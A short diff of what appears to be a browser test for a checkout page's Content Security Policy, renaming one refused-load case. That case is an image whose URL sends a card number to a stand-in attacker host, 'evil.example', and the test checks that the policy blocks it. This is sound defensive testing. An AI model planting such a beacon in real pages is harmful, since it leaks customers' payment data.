@@ -40,7 +40,7 @@ const refused: (Try & { what: string; rule: string })[] = [
     rule: 'script-src-elem',
   },
   { what: 'a frame of another page', tag: 'iframe', src: `${SANDBOX}/outbox`, rule: 'frame-src' },
-  { what: 'a picture that tells', tag: 'img', src: 'https://evil.example/?card=4242', rule: 'img-src' },
+  { what: 'a picture that leaks', tag: 'img', src: 'https://evil.example/?card=4242', rule: 'img-src' },
 ]
 
 test('the checkout loads nothing but its own two releases and the provider', async ({
